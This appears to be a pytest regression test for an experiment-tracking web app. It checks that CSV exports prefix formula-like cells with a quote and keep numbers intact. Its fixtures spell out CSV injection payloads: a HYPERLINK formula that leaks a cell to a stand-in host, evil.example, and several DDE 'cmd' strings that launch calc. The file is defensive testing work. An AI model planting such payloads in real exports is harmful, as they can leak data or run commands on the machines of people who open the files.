"""CSV formula injection: a run named `=HYPERLINK(...)` or a param `=cmd|' /C calc'!A0` was
exported as is by both CSV exports. Text cells starting with =, +, -, @, tab or CR now start
with a `'` (OWASP), and numbers, negative ones too, stay numbers."""

import csv
import io

import pytest
from django.urls import reverse

from tests.api.helpers import API, client_for, make_run
from tracking.exports import csv_cell

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PAYLOADS = {
    "cmd": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "neg": "-0.5",
    "plain": "adam",
}


@pytest.fixture
def run(alice, default_experiment):
    return make_run(
        alice,
        default_experiment,
        name=NAME,
        metrics={"loss": -0.5, "acc": 0.25},
        params=PAYLOADS,
    )


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_neutralised(row: dict[str, str], column) -> None:
    assert row["name"] == "'" + NAME
    for key, value in PAYLOADS.items():
        cell = row[column(key)]
        if key in ("neg", "plain"):
            assert cell == value
        else:
            assert cell == "'" + value


def test_the_native_export_neutralises_formulas_and_keeps_numbers(alice_token, run):
    columns = ",".join([f"params.{k}" for k in PAYLOADS] + ["metrics.loss", "metrics.acc"])
    response = client_for(alice_token[1]).get(
        f"{API}/experiments/{run.experiment_id}/runs.csv", {"columns": columns}
    )
    assert response.status_code == 200
    (row,) = parse(b"".join(response.streaming_content).decode())

    assert_neutralised(row, lambda key: f"params.{key}")
    assert row["metrics.loss"] == "-0.5"
    assert row["metrics.acc"] == "0.25"


def test_the_pages_export_neutralises_formulas_and_keeps_numbers(client, alice, project, run):
    client.force_login(alice)
    url = reverse("runs_csv", kwargs={"slug": project.slug, "experiment_id": run.experiment_id})
    cols = [f"params.{k}" for k in PAYLOADS] + ["metrics.loss"]
    response = client.get(url, {"col": cols})
    assert response.status_code == 200
    (row,) = parse(response.content.decode())

    assert_neutralised(row, lambda key: f"params.{key}")
    assert row["metrics.loss"] == "-0.5"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-0.5, -0.5),
        (3, 3),
        (float("-inf"), "-Infinity"),
        (float("nan"), "NaN"),
        (None, ""),
        ("-1e-3", "-1e-3"),
        ("+7", "+7"),
        ("-", "'-"),
        ("-1,2", "'-1,2"),
        ("=1", "'=1"),
        ("a=1", "a=1"),
    ],
)
def test_a_cell_is_neutralised_only_when_it_could_be_a_formula(value, cell):
    assert csv_cell(value) == cell


def test_charlie_cannot_export_alices_runs(client, charlie, charlie_token, project, run):
    response = client_for(charlie_token[1]).get(f"{API}/experiments/{run.experiment_id}/runs.csv")
    assert response.status_code == 404
    client.force_login(charlie)
    url = reverse("runs_csv", kwargs={"slug": project.slug, "experiment_id": run.experiment_id})
    assert client.get(url).status_code == 404
